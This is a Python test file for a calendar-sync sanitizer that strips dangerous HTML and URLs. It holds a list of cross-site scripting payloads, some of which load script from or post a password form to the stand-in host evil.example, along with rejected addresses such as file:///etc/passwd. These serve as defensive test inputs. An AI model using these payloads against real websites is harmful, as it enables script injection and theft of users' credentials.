"""Text from outside made safe to keep and to show."""

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from calendarsync.text import clean_html, clean_line, safe_url, without_control

ALLOWED = {"a", "b", "br", "div", "em", "i", "li", "ol", "p", "span", "strong", "u", "ul"}
HARMLESS_LINK = re.compile(r"(?:https?|mailto|tel):", re.IGNORECASE)


class Finder(HTMLParser):
    """Collects what a browser would make of a text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}


def assert_harmless(cleaned: str) -> None:
    found = Finder()
    found.feed(cleaned)
    assert found.tags <= ALLOWED
    for name, value in found.attributes:
        assert name in {"href", "rel"}
        assert name == "rel" or HARMLESS_LINK.match(value) or ":" not in value.split("/")[0]


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='https://ok.example' onclick='alert(1)' style='position:fixed'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import '//evil.example'</style>",
    "<iframe src='//evil.example'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div id=csrf name=cookie>x</div>",
    "<base href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<b<script>alert(1)</script>>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_comes_out_harmless(attack: str):
    assert_harmless(clean_html(attack))


@settings(max_examples=100, deadline=None, derandomize=True)
@given(
    st.lists(st.one_of(st.sampled_from(ATTACKS), st.text("<>&'\"/=; :abjscript\x00", max_size=8)), max_size=5)
)
def test_any_mixture_of_attacks_comes_out_harmless(parts: list[str]):
    assert_harmless(clean_html("".join(parts)))


def test_cleaning_twice_changes_nothing_more():
    """Otherwise each reading would look like a change."""
    for text in [*ATTACKS, "R&D <b>meeting</b>", "a < b", "5 &lt; 6", "Line\nbreak & more"]:
        once = clean_html(text)
        assert clean_html(once) == once


def test_formatting_and_links_survive():
    text = '<p>Agenda<br><b>One</b> <a href="https://linden.example/x?a=1">here</a></p>'

    assert 'href="https://linden.example/x?a=1"' in clean_html(text)
    assert "<b>One</b>" in clean_html(text)
    assert 'rel="noopener noreferrer nofollow"' in clean_html(text)


def test_plain_text_keeps_its_line_breaks():
    assert clean_html("First\nSecond\r\n\tThird") == "First\nSecond\r\n\tThird"


def test_very_long_text_is_cut():
    assert len(clean_html("x" * 1_000_000)) == 100_000
    assert len(clean_line("x" * 1_000_000)) == 1024


@pytest.mark.parametrize("value", [None, 5, [], {}, b"bytes", True])
def test_what_is_no_text_is_empty(value: Any):
    assert clean_line(value) == clean_html(value) == safe_url(value) == ""


def test_line_is_one_line_without_control_characters():
    assert clean_line("  Stand\x00-up\r\n\twith\u2028Bob\x1b[31m ") == "Stand-up with Bob[31m"


def test_halves_of_surrogate_pairs_are_dropped_and_whole_ones_kept():
    assert without_control("a\ud83d b \U0001f600") == "a b \U0001f600"


@pytest.mark.parametrize(
    "address",
    ["https://meet.example/abc", "http://x.example", "HTTPS://X.EXAMPLE/?q=1#f", "  https://x.example "],
)
def test_web_address_is_kept(address: str):
    assert safe_url(address) == address.strip()


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)", "javascript://x.example/%0aalert(1)", "ftp://x.example/",
        "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
        "data:text/html,x", "vbscript:x", "file:///etc/passwd", "//evil.example", "/path", "meet.example", "https:",
        "https://", "http:///path", "mailto:a@b.example", "https://[::1", "",
    ],
)  # fmt: skip
def test_other_address_is_dropped(address: str):
    assert safe_url(address) == ""
